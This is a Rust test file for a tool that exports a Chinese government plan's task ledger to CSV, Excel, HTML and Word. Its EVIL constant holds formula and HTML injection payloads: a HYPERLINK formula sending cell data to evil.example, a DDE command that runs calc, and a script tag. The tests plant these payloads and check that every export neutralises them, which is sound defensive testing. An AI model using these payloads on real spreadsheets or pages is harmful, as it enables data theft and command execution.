//! What is handed out can't act, comes back exactly, and is whole or not there.

use std::io::{Cursor, Read as _};

use crate::sandbox::Sandbox;

/// What a spreadsheet, a browser or a terminal might run.
const EVIL: [&str; 14] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "  =1+1",
    "\u{3000}=1+1",
    "＝1+1",
    "|calc",
    "a\n=1+1",
    "'=1+1",
    "''",
    "</td><script>alert(1)</script>",
    "\" onload=\"x",
];

/// The seed's store; each of its first tasks has one of the texts as content and as a note.
fn armed() -> Sandbox {
    let sandbox = Sandbox::with_seed();
    for (index, text) in EVIL.iter().enumerate() {
        let file = format!("data/chanjiao-2021-2025/tasks/{:03}.yaml", index + 1);
        let quoted = serde_json::to_string(text).unwrap();
        let content = |line: &str| match line.strip_prefix("content: ") {
            Some(_) => format!("content: {quoted}\n"),
            None => format!("{line}\n"),
        };
        let task: String = sandbox.read(&file).lines().map(content).collect();
        sandbox.write(&file, format!("{task}\nnotes:\n- date: \"2025-01-01\"\n  text: {quoted}\n"));
    }
    sandbox
}

#[test]
fn no_line_of_a_csv_cell_acts_and_every_content_comes_back() {
    let sandbox = armed();
    sandbox.pjt("export -o ledger.csv").fine();
    let text = sandbox.read("ledger.csv");
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let column = reader.headers().unwrap().iter().position(|title| title == "任务内容").unwrap();
    let mut contents = Vec::new();
    for record in reader.records() {
        let record = record.unwrap();
        for line in record.iter().filter(|cell| cell.parse::<f64>().is_err()).flat_map(str::lines) {
            let seen = line.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
            assert!(!seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '|', '%']), "{line:?}");
        }
        contents.push(pjt::model::cell::meant(&record[column]));
    }
    assert_eq!(contents[..EVIL.len()], EVIL);
}

#[test]
fn a_title_that_a_document_had_acts_in_no_csv() {
    let sandbox = Sandbox::with_seed();
    let file = "data/chanjiao-2021-2025/tasks/001.yaml";
    let title = "=联系人()";
    let extra = format!("\nextra:\n- title: {}\n  text: 王五\n", serde_json::to_string(title).unwrap());
    sandbox.write(file, sandbox.read(file) + &extra);
    let said = sandbox.pjt("export --format csv");
    let mut reader = csv::Reader::from_reader(said.fine().trim_start_matches('\u{feff}').as_bytes());
    let last = reader.headers().unwrap().iter().next_back().unwrap();
    assert_eq!(last, format!("'{title}"));
    assert_eq!(pjt::model::cell::meant(last), title);
    let said = sandbox.pjt_with(&["list", "--format", "csv", "--columns", title], &[]);
    assert!(said.fine().starts_with(&format!("'{title}")), "{}", said.whole());
}

#[test]
fn a_workbook_holds_strings_only_and_is_the_same_each_time() {
    let sandbox = armed();
    sandbox.pjt("export -o one.xlsx --today 2025-01-01").fine();
    sandbox.pjt("export -o two.xlsx --today 2025-01-01").fine();
    let one = std::fs::read(sandbox.path("one.xlsx")).unwrap();
    assert_eq!(one, std::fs::read(sandbox.path("two.xlsx")).unwrap());
    let mut archive = zip::ZipArchive::new(Cursor::new(one)).unwrap();
    for index in 0..archive.len() {
        let mut part = String::new();
        let mut file = archive.by_index(index).unwrap();
        file.read_to_string(&mut part).unwrap();
        for acting in ["<f>", "<f ", "<hyperlink", "TargetMode=\"External\"", "<script"] {
            assert!(!part.contains(acting), "part {index}: {acting}");
        }
    }
}

#[test]
fn a_page_has_the_same_elements_whatever_the_text_says() {
    let page = |sandbox: &Sandbox| {
        let said = sandbox.pjt("export --format html --today 2025-01-01");
        let page = scraper::Html::parse_document(said.fine());
        let all = scraper::Selector::parse("*").unwrap();
        let shape = |element: scraper::ElementRef<'_>| {
            let attributes: Vec<&str> = element.value().attrs().map(|(name, _)| name).collect();
            (element.value().name().to_owned(), attributes.join(" "))
        };
        page.select(&all).map(shape).collect::<Vec<_>>()
    };
    let armed = armed();
    let harmless = Sandbox::with_seed();
    for index in 1..=EVIL.len() {
        let file = format!("data/chanjiao-2021-2025/tasks/{index:03}.yaml");
        let notes = "\nnotes:\n- date: \"2025-01-01\"\n  text: x\n";
        harmless.write(&file, format!("{}{notes}", harmless.read(&file)));
    }
    let (one, other) = (page(&armed), page(&harmless));
    assert_eq!(one, other);
    let handles = |attributes: &str| attributes.split(' ').any(|attribute| attribute.starts_with("on"));
    assert!(one.iter().all(|(name, attributes)| name != "script" && !handles(attributes)));
    let said = armed.pjt("export --format html");
    assert!(said.stdout.contains("default-src 'none'; style-src 'sha256-"), "a policy without scripts");
}

#[test]
fn every_ledger_states_its_gap() {
    let sandbox = Sandbox::with_seed();
    sandbox.write("data/chanjiao-2021-2025/tasks/014.yaml", "x");
    for format in ["csv", "md", "html", "xlsx", "docx", "json"] {
        let name = format!("ledger.{format}");
        let said = sandbox.pjt(&format!("export -o {name} --keep-going"));
        assert!(said.code == 1 && said.stderr.contains("已将 42 项任务写入"), "{}", said.whole());
        let text = match format {
            "xlsx" => part_of(&sandbox, &name, "xl/sharedStrings.xml"),
            "docx" => part_of(&sandbox, &name, "word/document.xml"),
            _ => sandbox.read(&name),
        };
        let gap =
            if format == "json" { r#""unreadable":1"# } else { "缺口：1 个文件读不了，未列入" };
        assert!(text.contains(gap), "{format}");
    }
}

#[test]
fn an_export_that_fails_leaves_the_old_file() {
    let sandbox = Sandbox::with_seed();
    sandbox.write("ledger.csv", "old");
    sandbox.write("data/chanjiao-2021-2025/tasks/014.yaml", "x");
    assert_eq!(sandbox.pjt("export -o ledger.csv --force").code, 1);
    assert_eq!(sandbox.read("ledger.csv"), "old");
    assert_eq!(sandbox.pjt("export -o no/such/directory/ledger.csv --keep-going").code, 1);
}

#[test]
fn a_file_that_is_there_is_written_over_only_with_force() {
    let sandbox = Sandbox::with_seed();
    sandbox.write("ledger.csv", "mine");
    for lang in ["zh", "en"] {
        let said = sandbox.pjt_with(&["export", "-o", "ledger.csv"], &[("PJT_LANG", lang)]);
        assert_eq!(said.code, 2, "{}", said.whole());
        assert!(said.stderr.contains("--force"), "{}", said.stderr);
    }
    assert_eq!(sandbox.read("ledger.csv"), "mine");
    sandbox.pjt("export -o ledger.csv --force").fine();
    assert!(sandbox.read("ledger.csv").contains("市教委"));
}

#[test]
fn a_part_says_in_its_title_and_figures_which_it_is() {
    let sandbox = Sandbox::with_seed();
    for format in ["md", "html"] {
        let whole = sandbox.pjt(&format!("export --format {format}"));
        assert!(!whole.fine().contains("部分"), "{format}");
        let part = sandbox.pjt(&format!("export --format {format} --dept 市教委 --status todo,doing --open"));
        let title = "（部分：部门 市教委，状态 未启动或推进中，未办结）";
        assert!(part.fine().contains(title), "{}", part.stdout);
        let figures = format == "html";
        assert_eq!(part.stdout.contains("（只计所选部分）"), figures, "{}", part.stdout);
        // Nothing is overdue yet: that is said of the plan, and not of any.
        let none = sandbox.pjt(&format!("export --format {format} --overdue --today 2021-06-30"));
        let title = "上海市深化产教融合协同育人行动计划（2021-2025年）";
        assert!(none.fine().contains(title), "{}", none.stdout);
    }
}

/// A part of a workbook or a Word file.
fn part_of(sandbox: &Sandbox, name: &str, part: &str) -> String {
    crate::sandbox::part(&std::fs::read(sandbox.path(name)).unwrap(), part)
}

/// The strings of a workbook's cells, in the order in which they were written.
fn strings_of(sandbox: &Sandbox, name: &str) -> String {
    part_of(sandbox, name, "xl/sharedStrings.xml")
}

#[test]
fn a_paper_ledger_says_whose_it_is_of_which_day_and_from_which_revision() {
    let sandbox = Sandbox::with_seed();
    let hash = sandbox.git(&["rev-parse", "HEAD"]).trim()[..8].to_owned();
    let page = |more: &str| {
        sandbox.pjt(&format!("export --format html --today 2025-09-26 {more}")).fine().to_owned()
    };
    assert!(page("").contains(&format!("数据版本 {hash}</bdi>")) && page("").contains("截至2025年9月26日"));
    assert!(!page("").contains("填报单位"), "the office is not known");
    assert!(page("--dept 教委").contains("填报单位：市教委"));
    assert!(!page("--dept 市教委 --dept 市税务局").contains("填报单位"));
    sandbox.pjt("update 14 --status doing").fine();
    assert!(page("").contains(&format!("数据版本 {hash}，含尚未提交的改动")));
    assert!(page("--at HEAD").contains(&format!("数据版本 {hash}</bdi>")));
    sandbox.pjt("export -o ledger.xlsx --dept 市教委").fine();
    let strings = strings_of(&sandbox, "ledger.xlsx");
    assert!(
        strings.contains("填报单位：市教委")
            && strings.contains(&hash)
            && strings.contains("（部分：部门 市教委）")
    );
}

#[test]
fn headings_are_rows_and_nothing_stands_twice() {
    let sandbox = Sandbox::with_seed();
    sandbox.pjt("update 7 --due 2025-08-31 --due-text 2025年8月底前 --status doing").fine();
    sandbox.pjt("export -o ledger.xlsx --today 2025-09-26").fine();
    let strings = strings_of(&sandbox, "ledger.xlsx");
    let page = sandbox.pjt("export --format html --today 2025-09-26").fine().to_owned();
    sandbox.pjt("export -o ledger.docx --today 2025-09-26").fine();
    sandbox.pjt("export -o again.docx --today 2025-09-26").fine();
    let word = part_of(&sandbox, "ledger.docx", "word/document.xml");
    let bytes = |name: &str| std::fs::read(sandbox.path(name)).unwrap();
    assert_eq!(bytes("ledger.docx"), bytes("again.docx"));
    for text in [&strings, &page, &word] {
        for once in [
            "（一）增强产教融合协同育人主体内生动力",
            "5. 建立市级产教融合协同育人信息共享与发布系统",
            "率先在临港、杨浦等区",
        ] {
            assert_eq!(text.matches(once).count(), 1, "{once}");
        }
        for word in ["2025年8月底前", "（2025年8月31日）", "（逾期26天）", "*市教委", "注：带“*”"]
        {
            assert!(text.contains(word), "{word}");
        }
        assert!(text.contains("共43项：未启动42项、推进中1项；完成率0%（0/43）；逾期1项"));
    }
    assert!(page.contains("scope=\"colgroup\"") && page.contains("class=\"c-status red\""));
}

#[test]
fn several_plans_are_sections_with_figures_of_their_own() {
    let sandbox = Sandbox::with_seed();
    sandbox.write(
        "other.txt",
        "其他方案\n一、第一项\n1. 做一件事。（责任单位：市教委）\n2. 再做一件事。（责任单位：市教委）\n",
    );
    sandbox.pjt("import other.txt --plan other").fine();
    let page = sandbox.pjt("export --format html --plan all").fine().to_owned();
    assert_eq!(page.matches("<section>").count(), 2);
    assert_eq!(page.matches("<h2>").count(), 2);
    assert!(page.contains("共2项：未启动2项") && page.contains("等2个方案任务台账"), "{page}");
    sandbox.pjt("export -o ledger.xlsx --plan all").fine();
    assert!(strings_of(&sandbox, "ledger.xlsx").contains("共2项：未启动2项"));
}

#[test]
fn a_paper_ledger_is_not_taken_for_an_edition() {
    let sandbox = Sandbox::with_seed();
    sandbox.pjt("update 7 --due 2025-08-31 --status doing").fine();
    let formats = ["xlsx", "html", "docx"];
    for (format, lang) in formats.iter().flat_map(|format| [(format, "zh"), (format, "en")]) {
        let name = format!("{lang}.{format}");
        sandbox.pjt(&format!("export -o {name} --today 2025-09-26 --lang {lang}")).fine();
        let said = sandbox.pjt(&format!("import {name} --plan chanjiao-2021-2025"));
        assert_eq!(said.code, 4, "{}", said.whole());
    }
}

/// A program that finds no part where a relation leads asks whether to repair the file.
#[test]
fn every_relation_of_a_word_file_leads_to_a_part_and_each_that_is_used_is_there() {
    let sandbox = Sandbox::with_seed();
    sandbox.pjt("update 14 --status done --evidence https://example.org/14").fine();
    for (command, file) in [("export -o a.docx", "a.docx"), ("diff --format docx -o c.docx", "c.docx")] {
        sandbox.pjt(command).fine();
        let bytes = std::fs::read(sandbox.path(file)).unwrap();
        let mut package = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        let mut part = |name: &str| {
            let mut text = String::new();
            let found = package.by_name(name).unwrap_or_else(|error| panic!("{file}: {name}: {error}"));
            std::io::Read::read_to_string(&mut { found }, &mut text).unwrap();
            text
        };
        let values = |xml: &str, before: &str| {
            let rest = xml.split(before).skip(1);
            rest.filter_map(|rest| rest.split_once('"'))
                .map(|(value, _)| value.to_owned())
                .collect::<Vec<_>>()
        };
        let relations = part("word/_rels/document.xml.rels");
        let (ids, targets) = (values(&relations, " Id=\""), values(&relations, " Target=\""));
        assert!(!targets.is_empty(), "{file}: {relations}");
        targets.iter().for_each(|target| drop(part(&format!("word/{target}"))));
        let used = values(&part("word/document.xml"), " r:id=\"");
        assert!(!used.is_empty() && used.iter().all(|id| ids.contains(id)), "{file}: {used:?} {ids:?}");
    }
}

#[test]
fn a_ledger_of_many_columns_takes_the_larger_paper() {
    let sandbox = Sandbox::with_seed();
    for (columns, is_wide) in [
        ("id,content", false),
        ("id,pillar,key-task,content,lead,support,due,status,last-note,evidence", true),
    ] {
        for format in ["html", "docx"] {
            sandbox
                .pjt(&format!("export --format {format} --columns {columns} --force -o a.{format}"))
                .fine();
            let bytes = std::fs::read(sandbox.path(&format!("a.{format}"))).unwrap();
            let found = match format {
                "html" => String::from_utf8(bytes).unwrap().contains("class=\"across\""),
                _ => {
                    let mut package = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
                    let mut xml = String::new();
                    std::io::Read::read_to_string(
                        &mut package.by_name("word/document.xml").unwrap(),
                        &mut xml,
                    )
                    .unwrap();
                    xml.contains("<w:pgSz w:w=\"23811\"")
                }
            };
            assert_eq!(found, is_wide, "{format} {columns}");
        }
    }
}

#[test]
fn on_paper_the_text_has_the_room_that_short_columns_leave() {
    let sandbox = Sandbox::with_seed();
    sandbox.write("data/rules.yaml", "preset: yichang\n");
    sandbox.pjt("export --columns id,content,planned,percent,overdue -o a.docx").fine();
    let xml = part_of(&sandbox, "a.docx", "word/document.xml");
    let widths: Vec<u32> = xml
        .split("<w:gridCol w:w=\"")
        .skip(1)
        .map(|column| column.split_once('"').unwrap().0.parse().unwrap())
        .collect();
    let [id, content, short @ ..] = widths.as_slice() else { panic!("{widths:?}") };
    assert!(short.len() == 3 && short.iter().all(|width| width < &(2 * id)), "{widths:?}");
    assert!(content > &short.iter().sum(), "{widths:?}");
}

#[test]
fn a_deadline_stands_once_where_its_words_are_the_day() {
    let sandbox = Sandbox::with_seed();
    for (id, words) in [(7, "2025-08-20"), (8, "2025年8月20日"), (9, "8月20日前")] {
        let line = format!("update {id} --due 2025-08-20 --due-text {words} --today 2025-06-30");
        sandbox.pjt(&line).fine();
    }
    let page = sandbox.pjt("export --format html --lang zh --today 2025-06-30").fine().to_owned();
    // Three deadlines are this day: of one of them the words say no year, so it has the day behind them, too.
    assert_eq!(page.matches("2025年8月20日").count(), 3, "{page}");
    assert!(!page.contains("2025-08-20"), "the day is written in words");
    assert_eq!(page.matches("（2025年8月20日）").count(), 1);
    assert!(page.contains("8月20日前"));
}
